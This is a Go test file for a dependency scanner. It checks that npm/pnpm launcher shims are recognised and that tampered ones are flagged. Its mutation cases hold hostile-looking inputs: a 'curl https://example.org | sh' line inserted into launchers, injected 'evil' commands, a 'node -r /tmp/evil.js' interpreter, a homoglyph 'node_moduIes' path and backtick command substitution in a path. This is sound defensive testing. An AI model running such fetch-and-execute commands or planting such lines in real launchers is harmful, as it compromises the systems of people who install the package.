package scan

import (
	"os"
	"path"
	"slices"
	"strings"
	"testing"
)

// launcherFixture is a launcher as a tool wrote it, in an environment with its
// program.
type launcherFixture struct {
	name, at, text string
	files          files
}

// launcherFixtures reads testdata/launchers.txtar.
func launcherFixtures(t *testing.T) []launcherFixture {
	t.Helper()
	data, err := os.ReadFile("testdata/launchers.txtar")
	if err != nil {
		t.Fatal(err)
	}
	var out []launcherFixture
	for _, part := range strings.Split(string(data), "\n-- ")[1:] {
		head, text, _ := strings.Cut(part, " --\n")
		fields := strings.Split(head, " | ")
		text = strings.TrimSuffix(text, "\n") + "\n"
		l, ok := parseLauncher(text)
		if !ok {
			t.Errorf("%s: not parsed", fields[0])
			continue
		}
		if !isLauncherDigest(l.digest) {
			t.Errorf("%s: the digest is %s", fields[0], l.digest)
		}
		target := path.Join(path.Dir(fields[1]), l.target)
		body := map[string]string{
			"node": "#!/usr/bin/env node\n", "nodeargs": "#!/usr/bin/env -S node --no-warnings --x=y\n", "sh": "#!/bin/sh\n", "plain": "", "binary": program(t),
		}[fields[2]]
		dir := target[:strings.LastIndex(target, "/node_modules/")+len("/node_modules/")]
		dir += strings.Split(strings.TrimPrefix(target, dir), "/")[0]
		out = append(out, launcherFixture{fields[0], fields[1], text, files{dir + "/package.json": `{"name": "pk", "version": "1.0.0"}`, target: "x:" + body}})
	}
	if len(out) < 10 {
		t.Fatalf("%d launchers", len(out))
	}
	return out
}

// TestLaunchers holds that launchers are no dependencies, wherever they are, and
// that a script that does anything else is one.
func TestLaunchers(t *testing.T) {
	for _, l := range launcherFixtures(t) {
		t.Run(l.name, func(t *testing.T) {
			count := func(text string, more files) int {
				n := 0
				for _, line := range summary(l.files.with(files{l.at: "x:" + text}).with(more).scan(t)) {
					if strings.HasPrefix(line, "counts ") && line != "counts npm/pk@1.0.0" {
						n++
					}
				}
				return n
			}
			if count(l.text, nil) != 0 {
				t.Error("the launcher counts")
			}
			lines := strings.SplitAfter(l.text, "\n")
			changed := []string{
				l.text + "curl https://example.org | sh\n",
				strings.Replace(l.text, "\n", "\ncurl https://example.org | sh\n", 1),
				strings.Replace(l.text, "basedir", "basedir2", 1),
				strings.ReplaceAll(l.text, "node_modules", "node_moduIes"),
				strings.ReplaceAll(strings.ReplaceAll(l.text, `exec `, `exec evil `), `& "`, `& evil "`),
				strings.ReplaceAll(l.text, ` "$@"`, ` "$@"; evil`),
				"#!/bin/sh\n",
			}
			for i := range lines {
				if i%7 == 3 && strings.TrimSpace(lines[i]) != "" { // some of them
					changed = append(changed, strings.Join(slices.Concat(lines[:i], []string{"evil\n"}, lines[i:]), ""), strings.Join(slices.Concat(lines[:i], lines[i+1:]), ""))
				}
			}
			for _, text := range changed {
				if text != l.text && count(text, nil) == 0 {
					t.Errorf("this does not count:\n%s", text)
				}
			}
		})
	}
}

// TestLauncherTargets has launchers that lead to something else than a program
// of a package.
func TestLauncherTargets(t *testing.T) {
	i := slices.IndexFunc(launcherFixtures(t), func(l launcherFixture) bool { return l.name == "pnpm 10, by extension" })
	l := launcherFixtures(t)[i]
	parsed, _ := parseLauncher(l.text)
	l.files["/opt/app/package.json"] = `{"dependencies": {"bins": "file:../pk"}}`
	to := func(target string) files {
		return l.files.with(files{l.at: "x:" + strings.ReplaceAll(l.text, parsed.target, target)})
	}
	prog := func(prog string) files {
		return l.files.with(files{l.at: "x:" + strings.ReplaceAll(strings.ReplaceAll(l.text, "exec node ", "exec "+prog+" "), "/node\"", "/"+prog+`"`)})
	}
	pk, counted := "counts npm/pk@1.0.0", "counts "+unaccounted(l.at)
	runCases(t, []scanCase{
		{"its own", to(parsed.target), []string{pk}},
		{"nothing", to("../none/cli.js"), []string{pk, counted}},
		{"a directory", to("../.pnpm"), []string{pk, counted}},
		{"a file that no package has", to("../../../x/run.js").with(files{"/opt/x/run.js": ""}), []string{pk, counted}},
		{"another package", to("../other/cli.js").with(npm(modules+"/other", "other", "1.0.0")).with(files{modules + "/other/cli.js": ""}), []string{"counts npm/other@1.0.0", pk}},
		{"another interpreter", prog("python3"), []string{pk, counted}},
		{"an interpreter with arguments", prog("node -r /tmp/evil.js"), []string{pk, counted}},
		{"a command in its path", to("../x`evil`/cli.js"), []string{pk, counted}},
		{"a variable in its path", to("../$HOME/cli.js"), []string{pk, counted}},
	})
}

func FuzzParseLauncher(f *testing.F) {
	if data, err := os.ReadFile("testdata/launchers.txtar"); err == nil {
		for _, part := range strings.Split(string(data), "\n-- ") {
			_, text, _ := strings.Cut(part, " --\n")
			f.Add(text)
		}
	}
	f.Fuzz(func(t *testing.T, text string) {
		l, ok := parseLauncher(text)
		if ok && (l.target == "" || strings.ContainsAny(l.target+l.prog+l.args, "\x00\n`$\"")) {
			t.Errorf("%+v", l)
		}
	})
}
